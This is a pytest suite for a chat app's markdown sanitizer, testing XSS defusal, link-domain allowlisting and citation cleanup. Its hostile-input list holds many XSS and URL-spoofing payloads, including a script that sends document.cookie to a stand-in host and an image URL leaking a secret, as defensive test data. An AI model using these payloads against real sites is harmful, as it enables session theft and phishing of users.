"""`app.rag.sanitize`: hostile markdown is defused, ordinary markdown survives readable."""

from __future__ import annotations

import random
import re

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from app.rag.sanitize import clean_citations, link_allowed, sanitize_markdown

DOMAINS = ["example.com", "*.docs.acme.io", "münchen.de"]
OWN = "https://chat.ourapp.io"
# What remark-gfm turns into links in plain text; the group is the host it would link to.
BARE_URL = re.compile(r"(?:https?://|ftp://|(?=www\.[\w-]))([\w-][\w.-]*)", re.I)


def clean(text: str) -> str:
    return sanitize_markdown(text, allowed_domains=DOMAINS, own_base_url=OWN)


def allowed(url: str) -> bool:
    return link_allowed(url, allowed_domains=DOMAINS, own_base_url=OWN)


def _tokens(text: str) -> list[Token]:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    flat: list[Token] = []
    for tok in md.parse(text):
        flat.append(tok)
        flat.extend(tok.children or [])
    return flat


def assert_safe(out: str) -> None:
    """Re-parse the output like the UI would: no HTML, no images, only allowed links, and no
    bare URL that remark-gfm could turn into a link to another host."""
    in_link = False
    for tok in _tokens(out):
        assert tok.type not in ("html_inline", "html_block", "image"), (tok.type, out)
        if tok.type == "link_open":
            assert allowed(str(tok.attrs["href"])), out
            in_link = True
        elif tok.type == "link_close":
            in_link = False
        elif tok.type == "text" and not in_link:
            for host in BARE_URL.findall(tok.content):
                host = host.rstrip("._-")  # GFM leaves trailing punctuation out
                assert allowed(f"http://{host}/"), (host, out)


# ---------------------------------------------------------------------------------
# Hostile input: (markdown, strings that must not survive, strings that must)
# ---------------------------------------------------------------------------------

HOSTILE = [
    ("<script>alert(1)</script>", ["alert", "<script"], []),
    ("Hi <script>fetch('//evil.io?'+document.cookie)</script> there", ["fetch", "cookie"], ["Hi"]),
    ('<img src=x onerror="alert(1)">', ["onerror", "<img"], []),
    ("<iframe src='https://evil.io'></iframe>after", ["iframe", "evil.io"], ["after"]),
    ("Click <a href='javascript:alert(1)' onclick=x>here</a>", ["javascript", "onclick"], ["here"]),
    ("<div onmouseover=alert(1)>\nhover\n</div>", ["onmouseover", "alert"], ["hover"]),
    ("<svg><script>alert(1)</script></svg>", ["alert"], []),
    ("text <!-- hidden instructions --> more", ["hidden", "<!--"], ["text", "more"]),
    ("<style>body{display:none}</style>Visible", ["display"], ["Visible"]),
    ("![x](https://evil.example/pixel.png) seen", ["evil.example", "!["], ["x seen"]),
    ("![](https://evil.example/p.png?d=SECRET)", ["evil.example", "SECRET"], []),
    ("![alt][px]\n\n[px]: https://evil.io/p.png", ["evil.io", "!["], ["alt"]),
    ("![ok](https://example.com/logo.png)", ["logo.png", "!["], ["ok"]),  # no images at all
    ("![d](data:image/png;base64,iVBORw0KGgo=)", ["data:", "base64"], ["d"]),
    ("[click](javascript:alert(1))", ["javascript", "]("], ["click"]),
    ("[click](JaVaScRiPt:alert(1))", ["alert(1)"], ["click"]),
    ("[click](&#106;avascript:alert(1))", ["alert"], ["click"]),
    ("[click](java%0ascript:alert(1))", ["alert"], ["click"]),
    ("[click](<javascript:alert(1)>)", ["alert"], ["click"]),
    ("[click](vbscript:msgbox(1))", ["msgbox"], ["click"]),
    ("[click](data:text/html;base64,PHNjcmlwdD4=)", ["data:", "PHNj"], ["click"]),
    ("[click](file:///etc/passwd)", ["passwd"], ["click"]),
    ("[x](https://example.com.evil.io/login)", ["evil.io"], ["x"]),
    ("[x](https://evil-example.com)", ["evil-example"], ["x"]),
    ("[x](https://example.com@evil.io)", ["evil.io"], ["x"]),
    ("[x](https://example.com:443@evil.io)", ["evil.io"], ["x"]),
    ("[x](https://example.com\\@evil.io)", ["evil.io"], ["x"]),
    ("[x](https://example.com%2F@evil.io)", ["evil.io"], ["x"]),
    ("[x](https://example.com%2eevil.io)", ["evil.io"], ["x"]),
    ("[x](https://evil.io#https://example.com)", ["evil.io"], ["x"]),
    ("[x](https://evil.io/?next=https://example.com)", ["evil.io"], ["x"]),
    ("[x](//evil.io)", ["evil.io"], ["x"]),
    ("[x](/\\evil.io)", ["evil.io"], ["x"]),
    ("[x](https:evil.io)", ["evil.io"], ["x"]),
    ("[x](https:///evil.io)", ["evil.io"], ["x"]),
    ("[x](https://ex\u0430mple.com)", ["xn--", "\u0430mple.com)"], ["x"]),  # Cyrillic a
    ("[x](https://xn--exmple-cua.com)", ["xn--"], ["x"]),
    ("[x](https://example.com\u3002evil.io)", ["evil"], ["x"]),  # ideographic full stop
    ("[x][r]\n\n[r]: https://evil.io", ["evil.io"], ["x"]),
    ("[x](https://evil.io 'title')", ["evil.io", "title"], ["x"]),
    ("[[x](https://evil.io)](https://evil.io)", ["](https://evil.io"], ["x"]),
    ("[![img](https://evil.io/a.png)](https://evil.io)", ["evil.io", "!["], ["img"]),
    ("<https://evil.io/phish>", ["<https://evil.io"], []),
    ("<javascript:alert(1)>", ["<javascript"], []),
    ("See https://evil.io/login now", ["](https://evil.io"], ["See", "now"]),
    ("See www.evil.io now", [], ["See"]),
    ("ht<b></b>tps://evil.io/x", [], []),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", [], ["\\<script>alert(1)\\</script>"]),
    ("&#60;img src=x onerror=alert(1)&#62;", [], ["\\<img"]),
    ("\\<img src=x onerror=alert(1)>", [], ["\\<img"]),
    ("[1]: https://evil.io\n\nSee [1]", ["evil.io"], ["See [1]"]),
    ("\\[1\\]: https://evil.io", ["[1]:"], []),
    ("\\[x\\](https://evil.io)", ["](https://evil.io"], []),
    ("a\u202ereversed\u202c text", ["\u202e"], ["reversed"]),
    ("| a | b |\n|---|---|\n| <img src=x> | [x](https://evil.io) |", ["<img", "evil"], ["| x |"]),
    ("> <script>alert(1)</script>\n> quoted", ["alert"], ["> quoted"]),
    ("- [x](javascript:alert(1))\n- ![y](https://evil.io/y.png)", ["alert", "evil"], ["- x"]),
]


@pytest.mark.parametrize(("text", "banned", "kept"), HOSTILE)
def test_hostile_input_is_defused(text: str, banned: list[str], kept: list[str]) -> None:
    out = clean(text)
    assert_safe(out)
    for b in banned:
        assert b not in out, (b, out)
    for k in kept:
        assert k in out, (k, out)
    assert clean(out) == out  # stable: sanitizing twice changes nothing


def test_random_markdown_soup_is_always_safe() -> None:
    # Seeded fuzz over the pieces attacks are made of; found the adjacent-code-span merge.
    atoms = [
        "[", "]", "(", ")", "!", "<", ">", "*", "_", "`", "~", "#", "-", "|", "\\", "&",
        "&#60;", "&lt;", "\n", "\n\n", " ", "    ", "a", "https://", "http://", "www.",
        "evil.io", "example.com", "@", ":", "javascript:", "data:", "<img src=x>", "<!--",
        "-->", "[1]", "[2]:", "```", "> ", "- ", "1. ", "%2e", "\u3002", "\u202e", "<script>",
    ]  # fmt: skip
    rng = random.Random(20261121)
    for _ in range(400):
        text = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 30)))
        assert_safe(clean(text))


def test_disallowed_bare_urls_stay_visible_but_not_clickable() -> None:
    out = clean("Phish at https://evil.io/login, or <https://evil.io/x>.")
    assert out == "Phish at `https://evil.io/login`, or `https://evil.io/x`."


# ---------------------------------------------------------------------------------
# Safe input survives
# ---------------------------------------------------------------------------------

SAFE = [
    "Plain **bold**, *em*, ~~gone~~ and `code` with citations [1] [2].",
    "[Docs](https://example.com/docs) and [www](https://www.example.com/a?b=1#c)",
    "[Guide](https://guide.docs.acme.io/start) and [apex](https://docs.acme.io)",
    "[Our doc](https://chat.ourapp.io/d/123) and [relative](/d/123#page=2)",
    "[Stadt](https://xn--mnchen-3ya.de/info)",
    "<https://example.com/help>",
    "# Title\n\n## Sub\n\nParagraph.",
    "- one\n- two\n  - nested\n- three",
    "1. first\n\n2. second\n\n   continued",
    "> quoted\n> text\n\n***",
    "```python\nprint('<script>alert(1)</script>')\nx = [1](y)\n```",
    "Inline `<b>not html</b>` stays code.",
    "| Plan | Price |\n| :--- | ---: |\n| Pro | $10 |",
    "Math-ish 2 * 3 = 6, snake_case_name, a < b and AT&T.",
    "Line one\\\nline two",
]


@pytest.mark.parametrize("text", SAFE)
def test_safe_markdown_is_preserved(text: str) -> None:
    out = clean(text)
    assert out == text
    assert_safe(out)


def test_indented_code_becomes_fenced_and_keeps_html_as_text() -> None:
    assert clean("Run:\n\n    <b>sudo make</b>\n") == "Run:\n\n```\n<b>sudo make</b>\n```"


def test_escapes_keep_literal_text_literal() -> None:
    for text in ["\\# not a heading", "\\- not a list", "1\\. not a list"]:
        assert clean(text) == text
    # A closing "*" with no opener is plain text: only the opener needs its backslash.
    assert clean("\\*not em\\*") == "\\*not em*"
    assert clean("&lt;b&gt; &amp;copy;") == "\\<b> &amp;copy;"


@pytest.mark.parametrize(
    ("text", "raw"),
    [
        ("An except\\* clause", "An except* clause"),
        ("Pass \\*\\*kwargs or \\*args.", "Pass **kwargs or *args."),
        ("Define \\_\\_bool\\_\\_ on the class.", "Define \\_\\_bool__ on the class."),
        ("Call a_b_c(x) and 5 * 3.", "Call a_b_c(x) and 5 * 3."),
        ("Keep `__init__` and `**kw` in code.", "Keep `__init__` and `**kw` in code."),
    ],
)
def test_identifiers_in_text_are_escaped_only_where_markdown_needs_it(text: str, raw: str) -> None:
    """Faithful quotes (issue 11 item 7): what the answer means is unchanged, and the raw
    markdown (API, transcripts) keeps identifiers readable instead of `\\*\\*kwargs`."""
    out = clean(text)
    assert out == raw
    md = MarkdownIt("commonmark")
    assert md.render(out) == md.render(text)
    assert "<em>" not in md.render(out) and "<strong>" not in md.render(out)


def test_lighter_escaping_never_creates_emphasis_across_pieces() -> None:
    # Each "*" alone is plain text, but together they would open and close emphasis.
    for text in [
        "a \\*b `c` d\\* e",
        "\\*x\\* and \\_y\\_",
        "\\**x**",
        "\\_\\_a\\_\\_ `c` \\_\\_b\\_\\_",
    ]:
        out = clean(text)
        md = MarkdownIt("commonmark")
        assert md.render(out) == md.render(text), (text, out)


def test_empty_and_whitespace() -> None:
    assert clean("") == ""
    assert clean("   \n ") == ""
    assert clean("<script>x</script>") == ""


# ---------------------------------------------------------------------------------
# Domain rules
# ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://example.com", True),
        ("http://example.com/a", True),
        ("https://EXAMPLE.com./x", True),
        ("https://www.example.com", True),
        ("https://example.com:443/x", True),  # the default port, written out
        ("http://example.com:80/x", True),
        ("https://example.com:8443/x", False),  # another port: another origin
        ("http://example.com:443/x", False),
        ("https://docs.acme.io:8080", False),
        ("https://api.example.com", False),  # plain pattern: apex and www only
        ("https://docs.acme.io", True),
        ("https://a.b.docs.acme.io", True),
        ("https://acme.io", False),
        ("https://xn--mnchen-3ya.de", True),
        ("https://chat.ourapp.io/d/1", True),
        ("http://chat.ourapp.io/d/1", False),  # other scheme, other origin
        ("https://chat.ourapp.io:444/d/1", False),
        ("/d/1", True),
        ("//evil.io", False),
        ("d/1", False),
        ("#top", False),
        ("mailto:a@example.com", False),
        ("ftp://example.com", False),
        ("https://example.com@evil.io", False),
        ("https://evil.io\\@example.com", False),
        ("https://example.com.evil.io", False),
        ("https://notexample.com", False),
        ("https://example.com%2eevil.io", False),
        ("https://example.com evil.io", False),
        ("https://[::1]/", False),
        ("", False),
    ],
)
def test_link_allowed(url: str, ok: bool) -> None:
    assert allowed(url) is ok


def test_a_pattern_with_a_port_admits_that_port_only() -> None:
    domains = ["shop.example:8443", "127.0.0.1:8765", "localhost:3000"]

    def ok(url: str) -> bool:
        return link_allowed(url, allowed_domains=domains, own_base_url="")

    assert ok("https://shop.example:8443/a") and ok("https://www.shop.example:8443/a")
    assert not ok("https://shop.example/a") and not ok("https://shop.example:8444/a")
    assert ok("http://127.0.0.1:8765/x") and not ok("http://127.0.0.1:8766/x")
    assert ok("http://localhost:3000/") and not ok("http://www.localhost:3000/")


def test_links_and_frame_ancestors_follow_one_rule() -> None:
    """Every host:port the chat page may be framed by is a clickable link host, and the
    reverse (checked on the CSP sources the framing module emits)."""
    from app.services.framing import frame_ancestors

    stored = ["shop.example", "*.docs.example", "shop.example:8443", "127.0.0.1:8765"]
    sources = frame_ancestors(stored, "https://chat.ourapp.io").split()[3:]
    assert sources == [
        "shop.example",
        "www.shop.example",
        "*.docs.example",
        "docs.example",
        "shop.example:8443",
        "www.shop.example:8443",
        "127.0.0.1:8765",
    ]
    for source in sources:
        url = "https://" + source.replace("*.", "deep.sub.") + "/"
        assert link_allowed(url, allowed_domains=stored, own_base_url=""), url
    for url in ["https://shop.example:8080/", "https://docs.example:8443/", "https://x.example/"]:
        assert not link_allowed(url, allowed_domains=stored, own_base_url=""), url
    assert "shop.example:8080" not in sources


def test_answer_links_to_another_port_lose_their_url() -> None:
    text = "See [the docs](https://example.com:8443/docs) or [home](https://example.com/)."
    assert clean(text) == "See the docs or [home](https://example.com/)."
    assert clean("Visit https://example.com:9000/admin now") == (
        "Visit `https://example.com:9000/admin` now"
    )


def test_unusable_patterns_are_ignored() -> None:
    assert not link_allowed("https://evil.com", allowed_domains=["*.com"], own_base_url=OWN)
    assert not link_allowed("https://a.io", allowed_domains=["", "  ", "*"], own_base_url="")
    # A pattern written as a URL counts by its host only.
    assert link_allowed(
        "https://example.com/x", allowed_domains=["https://Example.com/docs"], own_base_url=""
    )


# ---------------------------------------------------------------------------------
# Citations
# ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "n", "expected", "used"),
    [
        ("A [1]. B [2].", 3, "A [1]. B [2].", [1, 2]),
        ("A [7]. B [2].", 3, "A. B [2].", [2]),
        ("A [0] [3].", 3, "A [3].", [3]),
        ("A [2, 9] and [1,2].", 3, "A [2] and [1][2].", [2, 1]),
        ("A [1][1] [1].", 3, "A [1].", [1]),
        ("Code `x[5]` and\n```\ny[9]\n```\n[9]", 3, "Code `x[5]` and\n```\ny[9]\n```\n", []),
        ("[1](https://example.com) \\[5\\]", 3, "[1](https://example.com) \\[5\\]", []),
        ("No markers.", 0, "No markers.", []),
    ],
)
def test_clean_citations(text: str, n: int, expected: str, used: list[int]) -> None:
    assert clean_citations(text, n) == (expected, used)
